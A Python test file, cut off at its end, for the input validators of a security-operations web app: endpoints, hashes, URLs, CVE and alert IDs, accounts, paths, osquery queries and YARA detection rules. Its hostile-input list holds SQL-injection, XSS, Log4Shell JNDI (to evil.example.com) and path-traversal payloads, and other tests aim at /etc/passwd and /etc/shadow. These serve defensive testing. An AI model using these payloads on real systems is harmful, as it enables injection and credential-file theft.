import datetime

import pytest
from django.core.exceptions import ValidationError

from actions import validators
from actions.validators import (
    MAX_TARGETS,
    validate_absolute_path,
    validate_account,
    validate_alert_id,
    validate_alert_ids,
    validate_appliance,
    validate_cve_id,
    validate_cve_ids,
    validate_domain,
    validate_endpoint,
    validate_endpoints,
    validate_incident_id,
    validate_ip_address,
    validate_mailbox,
    validate_message_id,
    validate_objects,
    validate_osquery,
    validate_process,
    validate_sha1,
    validate_sha256,
    validate_url,
    validate_yara_rules,
)

SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
GUID = "6f9619ff-8b86-d011-b42d-00c04fc964ff"
NEXT_YEAR = datetime.date.today().year + 1

HOSTILE_STRINGS = [
    "\x00",
    "a\x00b",
    "\ud800",
    "'; DROP TABLE users; --",
    "<script>alert(1)</script>",
    "x" * 100_000,
    "1" * 100_000,
    "\u202e\u200b",
    "${jndi:ldap://evil.example.com/a}",
    "../../etc/passwd",
]

ALL_VALIDATORS = [
    validate_endpoint,
    validate_sha1,
    validate_sha256,
    validate_ip_address,
    validate_domain,
    validate_url,
    validate_alert_id,
    validate_incident_id,
    validate_cve_id,
    validate_message_id,
    validate_mailbox,
    validate_account,
    validate_absolute_path,
    validate_process,
    validate_appliance,
    validate_osquery,
    validate_endpoints,
    validate_alert_ids,
    validate_cve_ids,
    lambda text: validate_objects(text, ("sha1", "sha256", "url", "ip", "domain")),
]


def messages_of(validator, *args, **kwargs) -> list[str]:
    with pytest.raises(ValidationError) as exc:
        validator(*args, **kwargs)
    return exc.value.messages


def message_of(validator, *args, **kwargs) -> str:
    messages = messages_of(validator, *args, **kwargs)
    assert len(messages) == 1, messages
    return messages[0]


# Endpoints


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("WS-0042", "ws-0042"),
        ("  web01.corp.example.com  ", "web01.corp.example.com"),
        ("web01.corp.example.com.", "web01.corp.example.com"),
        ("a", "a"),
        ("1host", "1host"),
        ("a" * 63 + ".example.com", "a" * 63 + ".example.com"),
        ("10.0.0.1", "10.0.0.1"),
        ("2001:DB8:0:0::0001", "2001:db8::1"),
        # One machine, one identity: IPv6 spellings that embed an IPv4 address are that address.
        ("::ffff:10.0.0.1", "10.0.0.1"),
        ("::FFFF:a00:1", "10.0.0.1"),
        ("0:0:0:0:0:ffff:0a00:0001", "10.0.0.1"),
        ("::10.0.0.1", "10.0.0.1"),
        ("::ffff:0:10.0.0.1", "10.0.0.1"),
        ("64:ff9b::10.0.0.1", "10.0.0.1"),
        ("::1", "::1"),
        ("::", "::"),
        (GUID, GUID),
        (GUID.upper(), GUID),
        ("{" + GUID.upper() + "}", GUID),
        # Without hyphens it is a plain 32-character host name.
        (GUID.replace("-", "").upper(), GUID.replace("-", "")),
    ],
)
def test_it_accepts_an_endpoint_in_canonical_form(value, expected):
    assert validate_endpoint(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "my host",
        "host_name",
        "web..example.com",
        ".example.com",
        "-web",
        "web-",
        "web-.example.com",
        "a" * 64,
        ".".join(["a" * 63] * 4) + ".com",
        "10.0.0.256",
        "1.2.3",
        "010.0.0.1",
        "fe80::1%eth0",
        "12345",
        "{" + GUID,
        "{" + GUID[:-1] + "g}",
        "ｗｅｂ",
        "\u212aelvin",
        "host\x00",
        "",
    ],
)
def test_it_refuses_a_malformed_endpoint(value):
    message = message_of(validate_endpoint, value)
    assert "is not an endpoint: expected a hostname, an IP address or an agent GUID." in message


@pytest.mark.parametrize(
    ("value", "read_as"),
    [
        ("0x0a000005", "10.0.0.5"),
        ("0X0A000005", "10.0.0.5"),
        ("167772165", "10.0.0.5"),
        ("10.5", "10.0.0.5"),
        ("10.0.5", "10.0.0.5"),
        ("012.0.0.5", "10.0.0.5"),
        ("0xa.0.0.5", "10.0.0.5"),
        ("10.0.0.0x5", "10.0.0.5"),
        ("10.0.0.5.", "10.0.0.5"),
        ("0x7f.1", "127.0.0.1"),
        ("017700000001", "127.0.0.1"),
    ],
)
def test_a_name_that_resolvers_read_as_an_address_is_refused_naming_the_address(value, read_as):
    assert message_of(validate_endpoint, value) == (
        f"`{value}` is not an endpoint: expected a hostname, an IP address or an agent GUID. "
        f"Resolvers read `{value}` as the IP address {read_as}: enter {read_as} if you mean it."
    )


@pytest.mark.parametrize("value", ["1.2.3.4.5", "08", "web.0x", "web.123", "4294967296"])
def test_a_name_ending_in_a_number_is_refused_as_a_name(value):
    assert message_of(validate_endpoint, value).endswith(
        "Resolvers do not look up a name ending in a number: they read it as an IP address."
    )


def test_it_quotes_the_refused_endpoint():
    assert message_of(validate_endpoint, "my host") == (
        "`my host` is not an endpoint: expected a hostname, an IP address or an agent GUID."
    )


def test_it_escapes_control_characters_when_quoting_a_value():
    assert message_of(validate_endpoint, "host\x00\n1").startswith("`host\\x00\\n1` is not")


def test_it_shortens_a_very_long_value_in_the_message():
    message = message_of(validate_endpoint, "x" * 100_000)
    assert "`" + "x" * 80 + "…`" in message
    assert len(message) < 300


def test_it_accepts_endpoints_one_per_line_without_repeats():
    text = f"WS-0042\n\n  10.0.0.1 \nws-0042\n{{{GUID.upper()}}}\n{GUID}\r\nws-0042.\n"
    assert validate_endpoints(text) == ["ws-0042", "10.0.0.1", GUID]


def test_it_accepts_exactly_one_endpoint_when_one_is_required():
    assert validate_endpoints("WS-0042\nws-0042", exactly_one=True) == ["ws-0042"]


def test_it_refuses_several_endpoints_when_one_is_required():
    message = message_of(validate_endpoints, "ws-1\nws-2\nws-3", exactly_one=True)
    assert message == "You entered 3 endpoints: expected exactly one for this action."


@pytest.mark.parametrize("text", ["", "  \n \r\n\t"])
def test_it_refuses_an_empty_endpoint_list(text):
    assert message_of(validate_endpoints, text) == "Enter at least one endpoint, one per line."


def test_it_accepts_a_hundred_endpoints():
    text = "\n".join(f"ws-{n}" for n in range(MAX_TARGETS))
    assert len(validate_endpoints(text)) == MAX_TARGETS


def test_it_refuses_101_endpoints():
    text = "\n".join(f"ws-{n}" for n in range(MAX_TARGETS + 1))
    assert message_of(validate_endpoints, text) == (
        "You entered 101 endpoints: expected at most 100 per request."
    )


def test_it_counts_endpoints_after_removing_repeats():
    text = "\n".join(f"WS-{n}\nws-{n}" for n in range(MAX_TARGETS))
    assert len(validate_endpoints(text)) == MAX_TARGETS


def test_it_names_every_bad_endpoint_line():
    messages = messages_of(validate_endpoints, "ws-1\n\na b\nws_2\n10.0.0.1")
    assert messages == [
        "Line 3: `a b` is not an endpoint: expected a hostname, an IP address or an agent GUID.",
        "Line 4: `ws_2` is not an endpoint: expected a hostname, an IP address or an agent GUID.",
    ]


def test_it_lists_at_most_ten_bad_lines():
    messages = messages_of(validate_endpoints, "\n".join(f"bad host {n}" for n in range(500)))
    assert len(messages) == 11
    assert messages[0].startswith("Line 1: `bad host 0`")
    assert messages[-1] == "… and 490 more lines with errors."


def test_it_reports_bad_lines_and_too_many_targets_together():
    text = "a b\n" + "\n".join(f"ws-{n}" for n in range(MAX_TARGETS + 5))
    messages = messages_of(validate_endpoints, text)
    assert messages[0].startswith("Line 1: `a b`")
    assert messages[1] == "You entered 105 endpoints: expected at most 100 per request."


# Hashes


@pytest.mark.parametrize(
    ("validator", "value", "expected"),
    [
        (validate_sha1, SHA1, SHA1),
        (validate_sha1, f"  {SHA1.upper()} ", SHA1),
        (validate_sha256, SHA256, SHA256),
        (validate_sha256, SHA256.upper(), SHA256),
    ],
)
def test_it_accepts_a_hash_in_lower_case(validator, value, expected):
    assert validator(value) == expected


@pytest.mark.parametrize(
    ("validator", "value", "expected"),
    [
        (validate_sha1, "abc", "`abc` is not a SHA-1 hash: expected 40 hexadecimal characters."),
        (validate_sha1, SHA1[:-1] + "g", "is not a SHA-1 hash"),
        (validate_sha1, SHA1 + "0", "is not a SHA-1 hash"),
        (validate_sha1, SHA256, "is not a SHA-1 hash"),
        (validate_sha1, "٠" * 40, "is not a SHA-1 hash"),
        (validate_sha1, "0x" + SHA1[2:], "is not a SHA-1 hash"),
        (validate_sha256, SHA1, "is not a SHA-256 hash: expected 64 hexadecimal characters."),
        (validate_sha256, SHA256[:32] + " " + SHA256[33:], "is not a SHA-256 hash"),
    ],
)
def test_it_refuses_a_malformed_hash(validator, value, expected):
    assert expected in message_of(validator, value)


# IP addresses, domains and URLs


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("192.0.2.10", "192.0.2.10"),
        (" 2001:0DB8::0:1 ", "2001:db8::1"),
        ("::", "::"),
    ],
)
def test_it_accepts_an_ip_address_in_canonical_form(value, expected):
    assert validate_ip_address(value) == expected


@pytest.mark.parametrize(
    "value", ["192.0.2.256", "192.0.2", "01.2.3.4", "10.0.0.0/8", "example.com", "fe80::1%eth0"]
)
def test_it_refuses_a_malformed_ip_address(value):
    assert message_of(validate_ip_address, value) == (
        f"`{value}` is not an IP address: expected an IPv4 address such as 192.0.2.10 or IPv6."
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Example.COM", "example.com"),
        ("evil-site.example.co.uk.", "evil-site.example.co.uk"),
        ("bücher.example", "xn--bcher-kva.example"),
        ("例え.jp", "xn--r8jz45g.jp"),
        ("XN--BCHER-KVA.example", "xn--bcher-kva.example"),
        ("example。com", "example.com"),
    ],
)
def test_it_accepts_a_domain_as_lower_case_ascii(value, expected):
    assert validate_domain(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "localhost",
        "example..com",
        "exa mple.com",
        "_dmarc.example.com",
        "-evil.example.com",
        "a" * 64 + ".com",
        "xn--zz.com",
        "10.0.0.1",
        "https://example.com",
        ".",
        "",
    ],
)
def test_it_refuses_a_malformed_domain(value):
    message = message_of(validate_domain, value)
    assert message == (
        f"`{value}` is not a domain name: expected a name with at least two labels, "
        "such as example.com."
    )


@pytest.mark.parametrize(
    "value",
    [
        "https://evil.example.com/payload.exe?id=1#top",
        "http://192.0.2.10:8080/c2",
        "http://[2001:db8::1]/",
        "https://例え.jp/",
    ],
)
def test_it_accepts_an_http_url(value):
    assert validate_url(f"  {value} ") == value


@pytest.mark.parametrize(
    "value",
    [
        "ftp://example.com/file",
        "javascript:alert(1)",
        "https://exa mple.com/",
        "https://x",
        "example.com/path",
        "https://example.com/\x00",
        "https://example.com/" + "a" * 3000,
    ],
)
def test_it_refuses_a_malformed_url(value):
    message = message_of(validate_url, value)
    assert "is not a URL: expected an http:// or https:// address" in message
    assert message.startswith("`" + value[:10].replace("\x00", "\\x00"))


# Suspicious objects

ALL_TYPES = ("sha1", "sha256", "url", "ip", "domain")


def test_it_accepts_objects_one_per_line():
    text = "\n".join(
        [
            f"sha1:{SHA1.upper()}",
            f" SHA256 : {SHA256}",
            "url:https://evil.example.com/a:b?x=1",
            "ip:2001:db8::0001",
            "domain:Evil.Example.com",
            "",
            f"sha1:{SHA1}",
        ]
    )
    assert validate_objects(text, ALL_TYPES) == [
        {"type": "sha1", "value": SHA1},
        {"type": "sha256", "value": SHA256},
        {"type": "url", "value": "https://evil.example.com/a:b?x=1"},
        {"type": "ip", "value": "2001:db8::1"},
        {"type": "domain", "value": "evil.example.com"},
    ]


def test_it_keeps_the_same_value_under_different_types():
    text = "domain:example.com\nurl:https://example.com"
    assert len(validate_objects(text, ALL_TYPES)) == 2


def test_it_refuses_an_object_type_not_allowed_for_the_action():
    message = message_of(validate_objects, f"sha256:{SHA256}", ("sha1", "url", "ip", "domain"))
    assert message == (
        "Line 1: `sha256` is not an allowed object type: expected one of sha1, url, ip, domain."
    )


def test_it_refuses_an_unknown_object_type():
    message = message_of(validate_objects, "md5:d41d8cd98f00b204e9800998ecf8427e", ALL_TYPES)
    assert "`md5` is not an allowed object type: expected one of sha1, sha256, url, ip, domain" in (
        message
    )


@pytest.mark.parametrize("line", ["evil.example.com", "sha1:", "sha1:   "])
def test_it_refuses_an_object_without_type_and_value(line):
    message = message_of(validate_objects, line, ALL_TYPES)
    assert message == (
        f"Line 1: `{line.strip()}` is not an object: expected type:value, "
        "with a type among sha1, sha256, url, ip, domain."
    )


def test_it_names_every_bad_object_line():
    text = f"sha1:{SHA1}\nsha1:abc\nip:10.0.0.999\ndomain:ok.example.com\nurl:ftp://x.example"
    assert messages_of(validate_objects, text, ALL_TYPES) == [
        "Line 2: `abc` is not a SHA-1 hash: expected 40 hexadecimal characters.",
        "Line 3: `10.0.0.999` is not an IP address: expected an IPv4 address such as "
        "192.0.2.10 or IPv6.",
        "Line 5: `ftp://x.example` is not a URL: expected an http:// or https:// address "
        "such as https://example.com/page.",
    ]


def test_it_refuses_an_empty_object_list():
    assert message_of(validate_objects, "\n \n", ALL_TYPES) == (
        "Enter at least one object, one per line as type:value."
    )


def test_it_refuses_101_objects():
    text = "\n".join(f"ip:10.0.0.{n}" for n in range(MAX_TARGETS + 1))
    assert message_of(validate_objects, text, ALL_TYPES) == (
        "You entered 101 objects: expected at most 100 per request."
    )


def test_it_rejects_a_programming_error_in_allowed_types():
    with pytest.raises(ValueError):
        validate_objects("md5:x", ("md5",))


# Workbench alerts and incidents


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("WB-12345-20261130-00001", "WB-12345-20261130-00001"),
        (" wb-9-20240229-99999 ", "WB-9-20240229-99999"),
    ],
)
def test_it_accepts_a_workbench_alert_id(value, expected):
    assert validate_alert_id(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "WB-12345-20261131-00001",
        "WB-12345-20230229-00001",
        "WB-12345-20261330-00001",
        "WB-12345-2026113-00001",
        "WB-12345-20261130-0001",
        "WB-20261130-00001",
        "XB-12345-20261130-00001",
        "WB--20261130-00001",
        "WB-١٢٣-20261130-00001",
        "WB-12345-20261130-00001 x",
        "WB-12345-20261130-00001x",
    ],
)
def test_it_refuses_a_malformed_alert_id(value):
    message = message_of(validate_alert_id, value)
    assert "is not a Workbench alert ID: expected WB-, digits, a date as YYYYMMDD and 5 digits" in (
        message
    )


def test_it_accepts_alert_ids_on_lines_or_separated_by_commas():
    text = "WB-1-20261130-00001, WB-1-20261130-00002\n\nwb-1-20261130-00001,,WB-2-20260101-00003"
    assert validate_alert_ids(text) == [
        "WB-1-20261130-00001",
        "WB-1-20261130-00002",
        "WB-2-20260101-00003",
    ]


def test_it_names_the_line_of_a_bad_alert_id():
    message = message_of(validate_alert_ids, "WB-1-20261130-00001\nWB-1-20261130-00002, nope")
    assert message.startswith("Line 2: `nope` is not a Workbench alert ID")


def test_it_refuses_an_empty_alert_id_list():
    assert message_of(validate_alert_ids, " , \n") == (
        "Enter at least one alert ID, one per line or separated by commas."
    )


def test_it_refuses_101_alert_ids():
    text = ",".join(f"WB-1-20261130-{n:05}" for n in range(MAX_TARGETS + 1))
    assert message_of(validate_alert_ids, text) == (
        "You entered 101 alert IDs: expected at most 100 per request."
    )


@pytest.mark.parametrize("value", ["INC-2026-0042", "a", "case_17", "x" * 64])
def test_it_accepts_an_incident_id(value):
    assert validate_incident_id(f" {value} ") == value


@pytest.mark.parametrize("value", ["", "x" * 65, "INC 42", "INC/42", "inc-ü", "INC-42;"])
def test_it_refuses_a_malformed_incident_id(value):
    assert message_of(validate_incident_id, value) == (
        f"`{value}` is not an incident ID: expected 1 to 64 letters, digits, hyphens (-) or "
        "underscores (_)."
    )


# CVE IDs


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("CVE-2024-3094", "CVE-2024-3094"),
        ("cve-2021-44228", "CVE-2021-44228"),
        ("CVE-1999-0001", "CVE-1999-0001"),
        (f"CVE-{NEXT_YEAR}-1234567", f"CVE-{NEXT_YEAR}-1234567"),
    ],
)
def test_it_accepts_a_cve_id_in_upper_case(value, expected):
    assert validate_cve_id(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "CVE-2024-123",
        "CVE-1998-1234",
        f"CVE-{NEXT_YEAR + 1}-1234",
        "CVE-24-1234",
        "CVE-2024-12a4",
        "2024-3094",
        "CVE 2024 3094",
        "CVE-2024-" + "1" * 20,
    ],
)
def test_it_refuses_a_malformed_cve_id(value):
    message = message_of(validate_cve_id, value)
    assert message == (
        f"`{value}` is not a CVE ID: expected CVE-YYYY-NNNN, with a year from 1999 to "
        f"{NEXT_YEAR} and 4 to 19 digits, such as CVE-2024-3094."
    )


def test_it_accepts_cve_ids_on_lines_or_separated_by_commas():
    assert validate_cve_ids("CVE-2024-3094, cve-2021-44228\nCVE-2024-3094") == [
        "CVE-2024-3094",
        "CVE-2021-44228",
    ]


def test_it_names_the_line_of_a_bad_cve_id():
    messages = messages_of(validate_cve_ids, "CVE-2024-3094\n\nCVE-2024-1, CVE-1990-1234")
    assert [m.split(" is not")[0] for m in messages] == [
        "Line 3: `CVE-2024-1`",
        "Line 3: `CVE-1990-1234`",
    ]


def test_it_refuses_101_cve_ids():
    text = "\n".join(f"CVE-2024-{n:04}" for n in range(1, MAX_TARGETS + 2))
    assert message_of(validate_cve_ids, text) == (
        "You entered 101 CVE IDs: expected at most 100 per request."
    )


# E-mail


@pytest.mark.parametrize(
    "value",
    [
        "<CAF=abc123@mail.gmail.com>",
        "<20261130.1234.ABCD@exchange.corp.example.com>",
        "<a@b>",
        "<x!#$%&'*+/=?^_`{|}~@[192.0.2.1]>",
    ],
)
def test_it_accepts_a_message_id(value):
    assert validate_message_id(f" {value}\n") == value


@pytest.mark.parametrize(
    "value",
    [
        "abc@example.com",
        "<abc@example.com",
        "<>",
        "<@example.com>",
        "<abc@>",
        "<abc>",
        "<a@b@c>",
        "<a b@c>",
        "<a\tb@c>",
        "<a\x00b@c>",
        "<<a@b>>",
        "<" + "a" * 1000 + "@b>",
    ],
)
def test_it_refuses_a_malformed_message_id(value):
    message = message_of(validate_message_id, value)
    assert "is not a Message-ID: expected <left@right> in angle brackets, with one @" in message


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Alice.Smith@Example.COM", "Alice.Smith@example.com"),
        (" soc+alerts@mail.example.co.uk ", "soc+alerts@mail.example.co.uk"),
    ],
)
def test_it_accepts_a_mailbox_with_a_lower_case_domain(value, expected):
    assert validate_mailbox(value) == expected


@pytest.mark.parametrize(
    "value",
    ["alice", "alice@", "@example.com", "alice@localhost", "a b@example.com", "a\x00@example.com"],
)
def test_it_refuses_a_malformed_mailbox(value):
    message = message_of(validate_mailbox, value)
    assert message.endswith(
        "is not an e-mail address: expected an address such as alice@example.com."
    )


# Accounts


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("jdoe", "jdoe"),
        ("John Doe", "John Doe"),
        ("svc-backup$", "svc-backup$"),
        ("x" * 20, "x" * 20),
        ("CONTOSO\\jdoe", "CONTOSO\\jdoe"),
        ("contoso\\j.doe", "CONTOSO\\j.doe"),
        ("jdoe@Contoso.COM", "jdoe@contoso.com"),
        ("john.doe@corp.contoso.local", "john.doe@corp.contoso.local"),
    ],
)
def test_it_accepts_an_account(value, expected):
    assert validate_account(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "",
        "x" * 21,
        "jdoe.",
        "...",
        "j[doe]",
        "j:doe",
        "j*doe",
        "j\tdoe",
        "jdoe@contoso",
        "@contoso.com",
        "j doe@contoso.com",
        "jdoe@@contoso.com",
        "\\jdoe",
        "CONTOSO\\",
        "TOOLONGDOMAINNAME\\jdoe",
        "CON TOSO\\jdoe",
        "CONTOSO\\jdoe\\x",
        "CONTOSO\\" + "x" * 21,
    ],
)
def test_it_refuses_a_malformed_account(value):
    message = message_of(validate_account, value)
    assert message.endswith(
        "is not an account: expected a user principal name (user@example.com), a down-level "
        "logon name (DOMAIN\\user) or a sAMAccountName (up to 20 characters)."
    )


# Paths


@pytest.mark.parametrize(
    "value",
    [
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "c:/Users/Public/evil.ps1",
        "D:\\",
        "C:\\Users\\x\\file.txt:Zone.Identifier",
        "C:\\Program Files (x86)\\App\\...\\x.dll",
        "\\\\fileserver\\share$\\dropper.exe",
        "/opt/.x/payload",
        "/",
        "/home/user/My Documents/notes.txt",
        "/" + "a" * 4095,
    ],
)
def test_it_accepts_an_absolute_path(value):
    assert validate_absolute_path(value) == value


@pytest.mark.parametrize(
    "value",
    [
        "Windows\\System32",
        "C:Windows\\x.exe",
        "\\Windows\\x.exe",
        "./payload",
        "~/payload",
        "\\\\server",
        "\\\\.\\PhysicalDrive0",
        "\\\\?\\C:\\Windows\\x.exe",
        "1:\\x",
    ],
)
def test_it_refuses_a_relative_path(value):
    message = message_of(validate_absolute_path, value)
    assert message == (
        f"`{value}` is not an absolute path: expected an absolute path such as "
        "C:\\Windows\\notepad.exe, \\\\server\\share\\file.txt or /usr/bin/python3."
    )


@pytest.mark.parametrize(
    "value",
    [
        "/var/www/../../etc/shadow",
        "C:\\Users\\..\\Windows\\x.exe",
        "C:/Users/../Windows",
        "/srv/..",
        "C:\\a\\.. \\b",
        "\\\\server\\share\\..\\other",
    ],
)
def test_it_refuses_a_path_with_a_parent_segment(value):
    message = message_of(validate_absolute_path, value)
    assert message.startswith(f"`{value}` is not an accepted path: expected an absolute path")
    assert message.endswith("without `..` segments.")


@pytest.mark.parametrize("value", ["/srv/a\x00b", "C:\\a\nb", "/srv/\x1b[31m", "/srv/\ud800"])
def test_it_refuses_a_path_with_control_characters(value):
    message = message_of(validate_absolute_path, value)
    assert "is not a path:" in message
    assert message.endswith("without control characters.")
    assert "\x00" not in message


def test_it_refuses_a_path_over_4096_characters():
    assert message_of(validate_absolute_path, "/" + "a" * 4096) == (
        "The path is 4,097 characters long: expected at most 4,096."
    )


# Processes and appliances


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("4242", 4242),
        (" 1 ", 1),
        ("4294967295", 4294967295),
        ("lsass.exe", "lsass.exe"),
        ("python3", "python3"),
        ("My App.exe", "My App.exe"),
        ("x" * 255, "x" * 255),
    ],
)
def test_it_accepts_a_process(value, expected):
    assert validate_process(value) == expected


@pytest.mark.parametrize("value", ["0", "-1", "4294967296", "1" * 100_000])
def test_it_refuses_an_impossible_pid(value):
    message = message_of(validate_process, value)
    assert message.endswith(
        "is not a process ID: expected a positive whole number up to 4294967295."
    )


@pytest.mark.parametrize(
    "value",
    ["", "C:\\Windows\\lsass.exe", "/usr/bin/python3", "..", "x" * 256, "evil\x00.exe"],
)
def test_it_refuses_a_malformed_process_name(value):
    message = message_of(validate_process, value)
    assert message.endswith(
        "is not a process: expected a process ID (a positive whole number) or a process name "
        "without a path, such as notepad.exe."
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [("DDI-01.corp.example.com", "ddi-01.corp.example.com"), ("192.0.2.5", "192.0.2.5")],
)
def test_it_accepts_an_appliance(value, expected):
    assert validate_appliance(value) == expected


@pytest.mark.parametrize("value", ["ddi 01", GUID + "_", "192.0.2.500", ""])
def test_it_refuses_a_malformed_appliance(value):
    assert message_of(validate_appliance, value) == (
        f"`{value}` is not an appliance: expected a hostname or an IP address."
    )


# osquery

OSQUERY_JOIN = """
SELECT DISTINCT p.pid, p.name, p.path, lp.port, lp.address
FROM listening_ports AS lp
JOIN processes AS p USING (pid)
WHERE lp.port != 0 AND lp.address NOT IN ('127.0.0.1', '::1')
ORDER BY lp.port;
"""

OSQUERY_WITH = """
WITH unsigned AS (
  SELECT p.pid, p.path FROM processes p
  LEFT JOIN authenticode a ON a.path = p.path
  WHERE a.result IS NULL OR a.result != 'trusted'
)
SELECT u.pid, u.path, h.sha256
FROM unsigned u JOIN hash h ON h.path = u.path
LIMIT 50
"""


@pytest.mark.parametrize(
    "query",
    [
        "SELECT pid, name, path FROM processes WHERE on_disk = 0;",
        "SELECT * FROM users;",
        "select name, version from programs where name like '%TeamViewer%'",
        OSQUERY_JOIN,
        OSQUERY_WITH,
        "SELECT username FROM users UNION SELECT username FROM logged_in_users",
        "SELECT path FROM file WHERE path LIKE '/etc/%%' AND mtime > (SELECT unix_time - 86400 "
        "FROM time)",
        "/* recent logins */ SELECT * FROM last -- newest first",
    ],
)
def test_it_accepts_a_read_only_osquery_query(query):
    assert validate_osquery(f"\n  {query}  \n") == query.strip()


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("ATTACH DATABASE '/tmp/x' AS x", "expected one read-only SELECT statement, not ATTACH."),
        ("DETACH DATABASE x", "not DETACH."),
        ("PRAGMA table_info(users)", "not PRAGMA."),
        ("DELETE FROM users", "not DELETE."),
        ("INSERT INTO users SELECT * FROM users", "not INSERT."),
        ("UPDATE users SET shell = '/bin/sh'", "not UPDATE."),
        ("REPLACE INTO users VALUES (1)", "not REPLACE."),
        ("CREATE TABLE t AS SELECT 1", "not CREATE."),
        ("DROP TABLE users", "not DROP."),
        ("ALTER TABLE users ADD COLUMN x", "not ALTER."),
        ("VALUES (1)", "not VALUES."),
    ],
)
def test_it_refuses_a_query_that_is_not_a_select(query, expected):
    message = message_of(validate_osquery, query)
    assert message.startswith(f"`{query}` is not a read-only query: ")
    assert message.endswith(expected)


@pytest.mark.parametrize(
    ("query", "inner"),
    [
        ("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "DELETE"),
        ("SELECT * INTO copy FROM users", "INTO"),
    ],
)
def test_it_refuses_a_select_with_a_write_inside(query, inner):
    assert message_of(validate_osquery, query) == (
        f"`{query}` is not a read-only query: expected one read-only SELECT statement, "
        f"with no {inner} inside."
    )


def test_it_refuses_a_select_followed_by_another_statement():
    assert message_of(validate_osquery, "SELECT 1; DROP TABLE users") == (
        "The query has 2 statements (SELECT, DROP): expected one read-only SELECT statement."
    )


@pytest.mark.parametrize("query", ["", "   ", ";", " ; ; "])
def test_it_refuses_an_empty_query(query):
    assert message_of(validate_osquery, query) == (
        "Enter a query: expected one read-only SELECT statement."
    )


@pytest.mark.parametrize(
    ("query", "parser_says"),
    [
        ("SELEC * FROM x", "(line 1, column 12)"),
        ("SELECT * FROM (", "Expected table name"),
        ("SELECT 'unterminated", "Error tokenizing"),
    ],
)
def test_it_refuses_a_query_that_does_not_parse(query, parser_says):
    message = message_of(validate_osquery, query)
    assert message.startswith(f"`{query}` is not valid SQL: ")
    assert parser_says in message
    assert message.endswith("; expected one read-only SELECT statement.")
    assert "\x1b" not in message


def test_it_refuses_a_query_nested_too_deeply():
    query = "SELECT " + "(" * 2000 + "1" + ")" * 2000
    assert message_of(validate_osquery, query) == (
        "The query is nested too deeply to be read: expected one read-only SELECT statement."
    )


def test_it_refuses_a_query_over_the_length_limit():
    query = "SELECT 1" + " " * 5000 + "+ 1" * 5000
    assert message_of(validate_osquery, query) == (
        "The query is 20,008 characters long: expected at most 10,000 characters."
    )


# YARA rules

WEBSHELL_RULE = b"""
rule php_webshell_eval
{
    meta:
        description = "PHP web shell evaluating request input"
        author = "SOC"
    strings:
        $php = "<?php" ascii nocase
        $a = "eval(" ascii
        $b = "base64_decode(" ascii
        $c = /\\$_(POST|GET|REQUEST)\\[/ ascii
    condition:
        $php at 0 and any of ($a, $b) and $c
}
"""

HEX_RULE = b"""
rule mz_with_upx
{
    strings:
        $mz = { 4D 5A }
        $upx = { 55 50 58 30 00 00 00 00 ?? ?? ?? ?? [4-16] 55 50 58 31 }
    condition:
        $mz at 0 and $upx and filesize < 5MB
}
"""

PE_RULE = b"""import "pe"

rule unsigned_dll_exporting_servicemain
{
    condition:
        pe.is_pe and pe.is_dll() and pe.number_of_signatures == 0
        and pe.exports("ServiceMain")
}
"""

ANY_OF_THEM_RULE = b"""rule webshell_any {
    strings: $a = "eval(" ascii $b = "system(" condition: any of them }"""


@pytest.mark.parametrize("data", [WEBSHELL_RULE, HEX_RULE, PE_RULE, ANY_OF_THEM_RULE])
def test_it_accepts_yara_rules_that_compile(data):
    assert validate_yara_rules(data) == data.decode()


def test_it_accepts_yara_rules_with_a_byte_order_mark():
    assert validate_yara_rules(b"\xef\xbb\xbf" + HEX_RULE) == HEX_RULE.decode()


def test_it_accepts_a_rule_file_just_under_1_mb():
    data = HEX_RULE + b"\n" + b"/" * (validators.MAX_UPLOAD_BYTES - len(HEX_RULE) - 3) + b"\n"
    assert len(data) == validators.MAX_UPLOAD_BYTES - 1
    assert validate_yara_rules(data) == data.decode()


def test_it_refuses_yara_rules_with_a_syntax_error():
    message = message_of(validate_yara_rules, b"rule broken {\n  condition:\n    true and\n}\n")
    assert message.startswith("The YARA rules do not compile: line 4, column 1: syntax error")


def test_it_refuses_yara_rules_with_an_undefined_identifier():
    assert message_of(validate_yara_rules, b"rule a {\n  condition: no_such_thing\n}") == (
        "The YARA rules do not compile: line 2, column 14: unknown identifier `no_such_thing` "
        "(this identifier has not been declared)."
    )


def test_it_lists_each_compile_error():
    messages = messages_of(validate_yara_rules, b"rule a { condition: x }\nrule b { condition: y }")
    assert [m.split(": ")[1] for m in messages] == ["line 1, column 21", "line 2, column 21"]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b'import "nope"\nrule a { condition: true }', "unknown module `nope`"),
        (b'rule a { strings: $a = "x" condition: true }', "unused pattern `$a`"),
        (b"rule a { condition: true }\nrule a { condition: false }", "duplicate rule `a`"),
    ],
)
def test_it_refuses_yara_rules_the_compiler_rejects(data, expected):
    assert expected in message_of(validate_yara_rules, data)


def test_it_refuses_yara_includes_that_would_read_server_files():
    message = message_of(validate_yara_rules, b'include "/etc/passwd"\nrule a { condition: true }')
    assert "include statements not allowed" in message
    assert "root" not in message


def test_it_refuses_a_2_mb_rule_file():
    data = HEX_RULE + b"//" + b"x" * (2 * 1024 * 1024)
    assert message_of(validate_yara_rules, data) == (
        f"The rule file is {len(data):,} bytes: expected a file under 1 MB (1,048,576 bytes)."
    )


def test_it_refuses_a_rule_file_of_exactly_1_mib():
    message = message_of(validate_yara_rules, b" " * 1_048_576)
    assert message.startswith("The rule file is 1,048,576 bytes")


@pytest.mark.parametrize(
